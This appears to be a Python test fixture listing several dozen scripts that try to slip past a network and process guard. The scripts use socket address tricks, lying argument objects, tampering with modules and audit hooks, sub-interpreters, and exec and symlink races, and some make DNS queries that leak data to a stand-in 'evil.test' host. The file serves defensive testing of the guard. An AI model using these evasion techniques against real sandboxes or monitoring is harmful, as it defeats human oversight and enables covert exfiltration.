"""Attacks on the witness, each a script that reaches something it may not; `test_attacks.py` shows that it does so
without the guard, and runs it under one.

A script knows `H`, `TCP` (a server it must not reach), `UDP`, `UNIX` (a server's path), `MARK` (a program that leaves a
mark) and `reach(sock)` (sends on a connected socket). Names under `evil.test` lead to H. What it touches is its
`target`: tcp, udp, unix, dns or mark.
"""

# ruff: noqa: E501  # one line a statement of the script, so that it can be read beside the others

from __future__ import annotations

PRELUDE = """\
import _socket, builtins, gc, importlib, os, signal, socket, subprocess, sys, threading, time
H, TCP, UDP, UNIX, MARK = {place!r}
def reach(sock):
    sock.sendall(b"out")
    sock.close()
def quiet(function, *args):
    try:
        return function(*args)
    except Exception as error:
        return error
"""

#: name -> (target, code)
ATTACKS: dict[str, tuple[str, str]] = {
    # Evented: the plain ways.
    "connect": ("tcp", "s = socket.socket(); s.connect((H, TCP)); reach(s)"),
    "connect_ex": ("tcp", "s = socket.socket(); s.connect_ex((H, TCP)); reach(s)"),
    "create_connection": ("tcp", "reach(socket.create_connection((H, TCP)))"),
    "unbound method": ("tcp", "s = socket.socket(); _socket.socket.connect(s, (H, TCP)); reach(s)"),
    "bare _socket": ("tcp", "s = _socket.socket(); s.connect((H, TCP)); s.send(b'out')"),
    "without init": (
        "tcp",
        "s = _socket.socket.__new__(_socket.socket); s.__init__(2, 1); s.connect((H, TCP)); s.send(b'out')",
    ),
    "fast open": ("tcp", "s = socket.socket(); s.sendto(b'out', socket.MSG_FASTOPEN, (H, TCP))"),
    "fast open message": ("tcp", "s = socket.socket(); s.sendmsg([b'out'], [], socket.MSG_FASTOPEN, (H, TCP))"),
    "asyncio": ("tcp", "import asyncio; asyncio.run(asyncio.open_connection(H, TCP))"),
    "fork": ("tcp", "if not os.fork():\n    reach(socket.create_connection((H, TCP)))\n    os._exit(0)\nos.wait()"),
    "thread": (
        "tcp", "t = threading.Thread(target=lambda: reach(socket.create_connection((H, TCP)))); t.start(); t.join()",
    ),
    "datagram": ("udp", "socket.socket(2, 2).sendto(b'out', (H, UDP))"),
    "datagram message": ("udp", "socket.socket(2, 2).sendmsg([b'out'], [], 0, (H, UDP))"),
    "connected datagram": ("udp", "s = socket.socket(2, 2); s.connect((H, UDP)); s.send(b'out')"),
    "bare datagram": ("udp", "_socket.socket(2, 2).sendto(b'out', (H, UDP))"),
    "unix": ("unix", "s = socket.socket(socket.AF_UNIX); s.connect(UNIX); reach(s)"),
    "unix bytes": ("unix", "s = socket.socket(socket.AF_UNIX); s.connect(UNIX.encode()); reach(s)"),
    "unix NUL": ("unix", "s = socket.socket(socket.AF_UNIX); s.connect(UNIX.encode() + b'\\0good'); reach(s)"),
    "unix relative": (
        "unix", "os.chdir(os.path.dirname(UNIX)); s = socket.socket(1); s.connect(os.path.basename(UNIX)); reach(s)",
    ),
    # Notation: one address, many spellings.
    **{
        f"spelled {host or 'empty'}": ("tcp", f"s = socket.socket(); s.connect(({host!r}, TCP)); reach(s)")
        for host in ("0x7f000001", "2130706433", "0177.0.0.1", "127.1", "0x7f.1", "0.0.0.0", "", "0", "１２７.0.0.1",
                     "127。0。0。1")
    },
    **{
        f"spelled {host}": ("tcp", f"s = socket.socket(socket.AF_INET6); s.connect(({host!r}, TCP)); reach(s)")
        for host in ("::ffff:127.0.0.1", "::ffff:7f00:1", "0:0:0:0:0:ffff:127.0.0.1")
    },
    "user in a URL": (
        "tcp", "import urllib.request as u; quiet(u.urlopen, f'http://good.test@{H}:{TCP}/')\nu.urlopen(f'http://{H}:{TCP}/')",
    ),
    "percent in a URL": ("tcp", "import urllib.request as u; u.urlopen(f'http://%31%32%37.0.0.1:{TCP}/', timeout=2)"),
    "proxy": (
        "tcp",
        "os.environ['http_proxy'] = f'http://{H}:{TCP}'\n"
        "import urllib.request as u; u.urlopen('http://good.test/x', timeout=2)",
    ),
    # Hostile arguments.
    "stateful port": (
        "tcp",
        "class Port:\n    n = 0\n    def __index__(self):\n        self.n += 1\n        return TCP if self.n == 1 else 1\n"
        "s = socket.socket(); s.connect((H, Port())); reach(s)",
    ),
    "stateful port, bare": (
        "tcp",
        "class Port:\n    n = 0\n    def __index__(self):\n        self.n += 1\n        return TCP if self.n == 1 else 1\n"
        "s = _socket.socket(); s.connect((H, Port())); s.send(b'out')",
    ),
    "port that compares as it likes": (
        "tcp",
        "class Port(int):\n    def __eq__(self, other): return other == 1\n    __hash__ = int.__hash__\n"
        "    def __str__(self): return '1'\n    __repr__ = __format__ = lambda self, *a: '1'\n"
        "s = _socket.socket(); s.connect((H, Port(TCP))); s.send(b'out')",
    ),
    "host that encodes as it likes": (
        "tcp",
        "class Host(str):\n    def encode(self, *a): return H.encode()\n    def __str__(self): return 'good.test'\n"
        "    def __format__(self, s): return 'good.test'\n    def __eq__(self, o): return True\n"
        "    def __hash__(self): raise SystemExit('hashed')\n"
        "s = _socket.socket(); s.connect((Host(H), TCP)); s.send(b'out')",
    ),
    "address that lies": (
        "tcp",
        "class Address(tuple):\n    def __getitem__(self, i): return ('192.0.2.1', 1)[i]\n"
        "    def __iter__(self): return iter(('192.0.2.1', 1))\n    def __len__(self): return 2\n"
        "    def __eq__(self, o): return True\n    def __hash__(self): return 0\n"
        "s = socket.socket(); s.connect(Address((H, TCP))); reach(s)",
    ),
    "address that lies, bare": (
        "tcp",
        "class Address(tuple):\n    def __getitem__(self, i): return ('192.0.2.1', 1)[i]\n"
        "s = _socket.socket(); s.connect(Address((H, TCP))); s.send(b'out')",
    ),
    "buffer for a host": ("tcp", "s = _socket.socket(); s.connect((bytearray(H.encode()), TCP)); s.send(b'out')"),
    "family that lies": (
        "tcp",
        "class Sock(socket.socket):\n    family = socket.AF_UNIX\n    type = 7\n    def fileno(self): return -1\n"
        "s = Sock(); s.connect((H, TCP)); _socket.socket.send(s, b'out')",
    ),
    "declared as RDS": (
        "tcp",
        "t = socket.socket(); s = socket.socket(socket.AF_RDS, 1, 0, fileno=t.fileno()); s.connect((H, TCP)); s.send(b'x')",
    ),
    # Tampering with what a program may replace.
    "reloaded": ("tcp", "importlib.reload(socket); s = socket.socket(); s.connect((H, TCP)); reach(s)"),
    "evicted": (
        "tcp",
        "for n in ('socket', '_socket'): del sys.modules[n]\nimport socket; s = socket.socket(); s.connect((H, TCP)); reach(s)",
    ),
    "methods taken off": (
        "tcp",
        "for n in ('connect', 'bind', 'sendto'):\n    quiet(delattr, socket.socket, n)\n"
        "s = socket.socket(); s.connect((H, TCP)); reach(s)",
    ),
    "method put back": (
        "tcp", "socket.socket.connect = _socket.socket.connect; s = socket.socket(); s.connect((H, TCP)); reach(s)",
    ),
    "no audit": ("tcp", "sys.audit = lambda *a: None; s = socket.socket(); s.connect((H, TCP)); reach(s)"),
    "no finders": ("tcp", "sys.meta_path.clear(); s = socket.socket(); s.connect((H, TCP)); reach(s)"),
    "our frames": (
        "tcp",
        "def go():\n    s = socket.socket(); s.connect((H, TCP)); reach(s)\n"
        "try: go()\nexcept OSError as e:\n    t = e.__traceback__\n    while t:\n        g = t.tb_frame.f_globals\n"
        "        if g['__name__'] != '__main__':\n            for k, v in list(g.items()):\n"
        "                if isinstance(v, (set, dict, list)) and not k.startswith('__'): v.clear()\n"
        "        t = t.tb_next\n    go()",
    ),
    "other builtins": (
        "tcp",
        "import encodings.idna\n"  # which, loaded later, would be the first to meet them
        "real, host = (type, isinstance, issubclass), None\n"
        "builtins.type = lambda *a: str if len(a) == 1 and a[0] is host else real[0](*a)\n"
        "builtins.isinstance = lambda o, k: o is host or real[1](o, k)\n"
        "builtins.issubclass = lambda o, k: o is Host or real[2](o, k)\n"
        "class Host(str): pass\nhost = Host(H)\n"
        "s = _socket.socket(); s.connect((host, TCP)); s.send(b'out')",
    ),
    "other helpers": (
        "tcp",
        "import posix, _thread, operator\n"
        "for m, n in ((os, 'getpid'), (posix, 'getpid'), (posix, 'urandom'), (posix, 'getcwd'), (sys, '_getframe'),\n"
        "             (_thread, 'get_native_id'), (time, 'monotonic'), (posix, 'stat'), (posix, 'fspath')):\n"
        "    setattr(m, n, lambda *a: 0)\ns = socket.socket(); s.connect((H, TCP)); reach(s)",
    ),
    "another supervisor": (
        "tcp",
        "a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)\n"
        "class Fake:\n    def __init__(self, *k): self.s = a\n    def __getattr__(self, n): return getattr(self.s, n)\n"
        "    def connect(self, x): pass\nreal = _socket.socket\n_socket.socket = Fake\n"
        "def serve():\n    while True:\n        f = b.recv(99999).split(b'\\0')\n"
        "        if f[0] != b'open': b.send(b'\\0'.join([f[1], b'allow', b'0', b'']))\n"
        "threading.Thread(target=serve, daemon=True).start()\n"
        "def go():\n    s = real(); s.connect((H, TCP)); s.send(b'out')\n"
        "t = threading.Thread(target=go); t.start(); t.join()",
    ),
    "answers waiting": (
        "tcp",
        "q = lambda n: '\\0'.join(['ask', str(n), 'native', 'ctypes.dlopen', '', '', '', '/x', '', '', '0', '', '', '', ''])\n"
        "quiet(socket.create_connection, (H, 1))\n"
        "for fd in range(3, 32):\n    for n in range(30): quiet(os.write, fd, q(n).encode())\n"
        "time.sleep(0.2)\ns = socket.socket(); s.connect((H, TCP)); reach(s)",
    ),
    "signal handler": (
        "tcp",
        "def handler(*a):\n    signal.setitimer(0, 0)\n    quiet(lambda: reach(socket.create_connection((H, TCP))))\n"
        "signal.signal(signal.SIGALRM, handler); signal.setitimer(0, 0.02)\n"
        "end = time.time() + 0.5\nwhile time.time() < end: quiet(socket.create_connection, (H, 1))",
    ),
    "time-out of nothing": ("tcp", "s = socket.socket(); s.setblocking(False); s.connect_ex((H, TCP)); time.sleep(.1); s.send(b'x')"),
    "no files": (
        "tcp",
        "import resource; signal.signal(signal.SIGXFSZ, signal.SIG_IGN); resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))\n"
        "s = socket.socket(); s.connect((H, TCP)); reach(s)",
    ),
    # The interpreter's own ends and doubles.
    "at the end": (
        "tcp",
        "class Last:\n    def __init__(self): self.k = (_socket.socket, (H, TCP), Exception)\n"
        "    def __del__(self):\n        make, to, error = self.k\n        try:\n            s = make(); s.connect(to); s.send(b'out')\n"
        "        except error: pass\nsys.kept = Last(); builtins.kept = Last(); x = Last(); x.x = x",
    ),
    "atexit": ("tcp", "import atexit; atexit.register(lambda: reach(socket.create_connection((H, TCP))))"),
    "sub-interpreter": ("tcp", "SUB()"),
    "sub-interpreter without its variable": ("tcp", "os.environ.pop('NETGUARD_CHANNEL', 0); SUB()"),
    "sub-interpreter with another channel": ("tcp", "os.environ['NETGUARD_CHANNEL'] = '@other'; SUB()"),
    # Names: data leaves in the question itself.
    "getaddrinfo": ("dns", "socket.getaddrinfo('secret.evil.test', 80)"),
    "getaddrinfo bytes": ("dns", "_socket.getaddrinfo(b'secret.evil.test', 80)"),
    "gethostbyname": ("dns", "socket.gethostbyname('secret.evil.test')"),
    "gethostbyname_ex": ("dns", "_socket.gethostbyname_ex('secret.evil.test')"),
    "gethostbyaddr": ("dns", "socket.gethostbyaddr('203.0.113.78')"),
    "getnameinfo": ("dns", "socket.getnameinfo(('203.0.113.77', 80), 0)"),
    "getfqdn": ("dns", "socket.getfqdn('203.0.113.79')"),
    "connect by name": ("dns", "socket.socket().connect(('secret.evil.test', 1))"),
    "connect by name as bytes": ("dns", "socket.socket().connect((b'secret.evil.test', 1))"),
    "connect by name that is not ASCII": ("dns", "socket.socket().connect(('s\\xe9cret.evil.test', 1))"),
    "bind by name": ("dns", "socket.socket().bind(('secret.evil.test', 0))"),
    "datagram by name": ("dns", "socket.socket(2, 2).sendto(b'x', ('secret.evil.test', 1))"),
    "message by name": ("dns", "socket.socket(2, 2).sendmsg([b'x'], [], 0, ('secret.evil.test', 1))"),
    "RDS by name": (
        "dns", "t = socket.socket(); socket.socket(21, 1, 0, fileno=t.fileno()).connect(('secret.evil.test', 1))",
    ),
    "name and a NUL": ("dns", "quiet(socket.getaddrinfo, 'secret.evil.test\\0.good.test', 80); socket.gethostbyname('b.evil.test')"),
    "name in another thread": (
        "dns", "t = threading.Thread(target=socket.getaddrinfo, args=('secret.evil.test', 80)); t.start(); t.join()",
    ),
    "a copy of _socket": ("dns", "COPY('_socket').getaddrinfo('secret.evil.test', 80)"),
    "_socket without our finder": (
        "dns",
        "sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != 'Finder']\ndel sys.modules['_socket']\n"
        "import _socket; _socket.getaddrinfo('secret.evil.test', 80)",
    ),
    "_socket around our finder": (
        "dns",
        "sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != 'Finder']\ndel sys.modules['_socket']\n"
        "importlib.import_module('_socket').gethostbyname('secret.evil.test')",
    ),
    "another idna": (
        "dns",
        "import codecs, encodings\n"
        "ci = codecs.CodecInfo(lambda s, e='strict': (b'secret.evil.test', len(s)), None, name='idna')\n"
        "encodings._cache['idna'] = ci\n"
        "if hasattr(codecs, 'unregister'):\n    codecs.unregister(encodings.search_function)\n"
        "    codecs.register(lambda n: ci if n == 'idna' else encodings.search_function(n))\n"
        "for f in (lambda: socket.getaddrinfo('good.test', 80), lambda: socket.gethostbyname('127.0.0.1'),\n"
        "          lambda: socket.gethostbyname('a..b'), lambda: socket.socket().connect(('g\\xf6\\xf6d.test', 1))): quiet(f)",
    ),
    # Programs.
    "run": ("mark", "subprocess.run([MARK])"),
    "run, no audit": ("mark", "sys.audit = lambda *a: None; subprocess.run([MARK], close_fds=True, preexec_fn=int)"),
    "run in its folder": ("mark", "subprocess.run(['./' + os.path.basename(MARK)], cwd=os.path.dirname(MARK))"),
    "system": ("mark", "os.system(MARK)"),
    "popen": ("mark", "os.popen(MARK).read()"),
    "spawn": ("mark", "os.waitpid(os.posix_spawn(MARK, [MARK], {}), 0)"),
    "spawnv": ("mark", "os.spawnv(os.P_WAIT, MARK, [MARK])"),
    "exec": ("mark", "if not os.fork():\n    os.execv(MARK, [MARK])\nos.wait()"),
    "exec of a descriptor": (
        "mark", "if not os.fork():\n    os.execve(os.open('/bin/sh', 0), ['sh', '-c', f': > {MARK}.ran'], {})\nos.wait()",
    ),
    "exec by bare name": ("mark", "os.chdir(os.path.dirname(MARK))\nif not os.fork():\n    os.execv(os.path.basename(MARK), ['x'])\nos.wait()"),
    "fork_exec": ("mark", "import multiprocessing.util as u; os.waitpid(u.spawnv_passfds(MARK.encode(), [b'x'], []), 0)"),
    "a copy of _posixsubprocess": (
        "mark",
        "f = COPY('_posixsubprocess').fork_exec\nimport multiprocessing.util as u, _posixsubprocess as p\n"
        "p.fork_exec = f\nos.waitpid(u.spawnv_passfds(MARK.encode(), [b'x'], []), 0)",
    ),
    "_posixsubprocess without our finder": (
        "mark",
        "sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != 'Finder']\n"
        "sys.modules.pop('_posixsubprocess', 0)\n"
        "import multiprocessing.util as u; os.waitpid(u.spawnv_passfds(MARK.encode(), [b'x'], []), 0)",
    ),
    "isolated child": ("mark", "subprocess.run([sys.executable, '-I', '-S', '-c', f'open({MARK + \".ran\"!r}, \"w\")'])"),
    "program that appears late": (
        "mark",
        "n = MARK + '-late'\ndef put():\n    while not done:\n        quiet(os.symlink, MARK, n); quiet(os.unlink, n)\n"
        "done = []\nt = threading.Thread(target=put); t.start()\nend = time.time() + 1\n"
        "while time.time() < end: quiet(subprocess.run, [n]); quiet(lambda: os.waitpid(os.posix_spawn(n, [n], {}), 0))\n"
        "done.append(1); t.join()",
    ),
}  # fmt: skip

#: What stands for SUB and COPY above: the attempt in a sub-interpreter; a module object made around the import system.
HELPERS = '''\
def COPY(name):
    import importlib.util
    from importlib.machinery import ExtensionFileLoader, ModuleSpec, PathFinder
    module = sys.modules.get(name)
    file = module.__file__ if module is not None else PathFinder.find_spec(name).origin
    spec = ModuleSpec(name, ExtensionFileLoader(name, file), origin=file)
    import _imp
    found = _imp.create_dynamic(spec)
    _imp.exec_dynamic(found)
    return found
def SUB():
    try:
        import _interpreters as sub
    except ImportError:
        import _xxsubinterpreters as sub
    code = f"import _socket; s = _socket.socket(); s.connect(({H!r}, {TCP})); s.send(b'out')"
    for how in ({}, {"isolated": False}, None):
        try:
            one = sub.create("legacy") if how is None else sub.create(**how)
            (getattr(sub, "run_string", None) or sub.exec)(one, code)
        except (TypeError, ValueError):
            pass
'''
